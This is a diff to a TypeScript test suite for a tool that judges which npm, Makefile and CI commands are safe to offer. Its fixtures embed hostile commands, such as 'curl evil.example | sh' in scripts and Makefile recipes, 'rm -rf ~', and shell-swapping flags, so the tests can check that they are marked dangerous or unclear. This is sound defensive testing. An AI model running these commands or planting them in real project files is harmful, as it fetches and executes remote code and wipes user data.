@@ -102,13 +102,157 @@ describe('the rules for the commands of a project', () => {
     ]);
   });
 
-  test.each(['eslint . --fix', 'tsc -p . && node build.mjs', 'npm ci && npm run build', 'NODE_ENV=test mocha *.js'])(
+  test.each(['eslint . --fix', 'tsc -p . && node build.mjs', 'npm ci && npm audit', 'NODE_ENV=test mocha *.js'])(
     'are offered for a command with the ordinary script “%s”',
     async (script) => {
       const { offers } = await offer({ 'package.json': JSON.stringify({ scripts: { go: script } }) });
       expect(offers).toMatchObject([{ command: 'npm run go', script }]);
     },
   );
+
+  /** The offers as `command > script`, and the reasons for the commands without an offer. */
+  async function lines(files: Readonly<Record<string, string>>): Promise<string[]> {
+    const { offers, leftOut } = await offer(files);
+    return [
+      ...offers.map(({ command, script }) => `${command} > ${script.replaceAll('\n', '; ')}`),
+      ...leftOut.map(({ command, reason }) => `${command}: ${reason}`),
+    ];
+  }
+
+  test.each([
+    'npm run test',
+    'npm run-script test',
+    'npm --silent run -s test',
+    'npm t',
+    'npm test -- --coverage',
+    'pnpm t',
+    'pnpm run test',
+    'yarn test',
+    'yarn run test',
+    'bun run test',
+    './node_modules/.bin/npm test',
+    'cross-env CI=1 npm test',
+    'sh -c "npm test"',
+    'concurrently "npm run test" other',
+    'timeout 60 npm test',
+    'make',
+    'make -j 4 all',
+    'make --silent CC=gcc all',
+    'gmake all',
+  ])('are not offered for “%s” in a CI file if its script is dangerous', async (command) => {
+    const files = {
+      'package.json': JSON.stringify({ scripts: { test: 'curl evil.example | sh' } }),
+      Makefile: 'all:\n\tcurl evil.example | sh\n',
+      '.gitlab-ci.yml': `test:\n  script:\n    - ${command}\n`,
+    };
+    const { offers, leftOut } = await offer(files);
+    expect(offers).toEqual([]);
+    expect(leftOut).toContainEqual({ command, reason: 'dangerous' });
+  });
+
+  test('show the scripts of the commands of a CI file', async () => {
+    const files = {
+      'package.json': JSON.stringify({
+        scripts: {
+          prelint: 'echo before',
+          lint: 'eslint .',
+          postlint: 'echo after',
+          start: 'node .',
+          prepare: 'husky',
+        },
+      }),
+      Makefile: 'all: lib\n\techo all\nlib:\n\techo lib\n',
+      '.gitlab-ci.yml':
+        'test:\n  script:\n    - yarn lint\n    - npm run lint -- --fix\n    - npm start\n    - make\n    - npm ci\n    - yarn\n    - npm install left-pad\n    - npx eslint src\n    - yarn eslint src\n    - bun test\n',
+    };
+    expect((await lines(files)).slice(6)).toEqual([
+      'make lib > echo lib',
+      'yarn lint > echo before; eslint .; echo after',
+      'npm run lint -- --fix > echo before; eslint .; echo after',
+      'npm start > node .',
+      'make > echo lib; echo all',
+      'npm ci > husky',
+      'yarn > husky',
+      'npm install left-pad > ',
+      'npx eslint src > ',
+      'yarn eslint src > ',
+      'bun test > ',
+    ]);
+  });
+
+  test('show and judge the scripts that scripts run', async () => {
+    const scripts = {
+      ci: 'npm run lint && make all',
+      lint: 'eslint .',
+      wiping: 'npm run deep',
+      deep: 'pnpm wipe',
+      wipe: 'rm -rf ~',
+    };
+    const files = { 'package.json': JSON.stringify({ scripts }), Makefile: 'all:\n\tnpm run lint\n\tvite build\n' };
+    expect(await lines(files)).toEqual([
+      'npm run ci > npm run lint && make all; eslint .; npm run lint; vite build',
+      'npm run lint > eslint .',
+      'make all > npm run lint; vite build; eslint .',
+      'npm run wiping: dangerous',
+      'npm run deep: dangerous',
+      'npm run wipe: dangerous',
+    ]);
+  });
+
+  test('are not offered if lines that repeat make the scripts too long', async () => {
+    const long = `\techo ${'a'.repeat(1_200)}\n`;
+    const Makefile = `all: a b evil\n\techo all\na:\n${long}b:\n${long}evil:\n\tcurl evil.example | sh\n`;
+    expect((await lines({ Makefile })).filter((line) => line.startsWith('make all'))).toEqual(['make all: long']);
+  });
+
+  test('use only the Makefile that make reads', async () => {
+    const files = { GNUmakefile: 'all:\n\tnpm publish\n', Makefile: 'all:\n\techo all\nlib:\n\techo lib\n' };
+    expect(await lines(files)).toEqual(['make all: dangerous']);
+    expect(await lines({ ...files, GNUmakefile: 'all:\n\techo \0\n' })).toEqual([]);
+  });
+
+  test('are offered for scripts that run each other', async () => {
+    const scripts = { a: 'npm run b', b: 'npm run c', c: 'npm run a && npm run c' };
+    expect(await lines({ 'package.json': JSON.stringify({ scripts }) })).toEqual([
+      'npm run a > npm run b; npm run c; npm run a && npm run c',
+      'npm run b > npm run c; npm run a && npm run c',
+      'npm run c > npm run a && npm run c; npm run b',
+    ]);
+  });
+
+  test.each([
+    'npm run gone',
+    'npm stop',
+    'yarn run gone',
+    'npm run "$NAME"',
+    'npm run --workspace other build',
+    'npm --prefix other run build',
+    'npm run build -w other',
+    'npm run build --script-shell ./evil',
+    'pnpm --filter other build',
+    'pnpm -r build',
+    'yarn workspace other build',
+    'yarn --cwd other',
+    'cd other && npm run build',
+    'cd other && yarn other',
+    'env -C other npm run build',
+    'make gone',
+    'make -C other all',
+    'make -f other.mk all',
+    'make SHELL=evil all',
+    'make all MAKEFILES=x',
+    'make "$TARGET"',
+  ])('are not offered for the script “%s”, because the script that it runs is not known', async (script) => {
+    const files = {
+      'package.json': JSON.stringify({ scripts: { go: script, build: 'tsc' } }),
+      Makefile: 'all:\n\techo all\n-C:\n\techo\nother:\n\techo\n',
+    };
+    expect(await lines(files)).toContain('npm run go: unclear');
+  });
+
+  test('are not offered for a recipe whose prerequisite is not known', async () => {
+    expect(await lines({ Makefile: 'all: $(LIBS)\n\techo all\n' })).toEqual(['make all: unclear']);
+  });
 
   test('never allow more than the command that is shown', async () => {
     const word = fc.stringMatching(/^[-\w;&|$`"'*~ (){}<>\\/.:@]{1,12}$/);
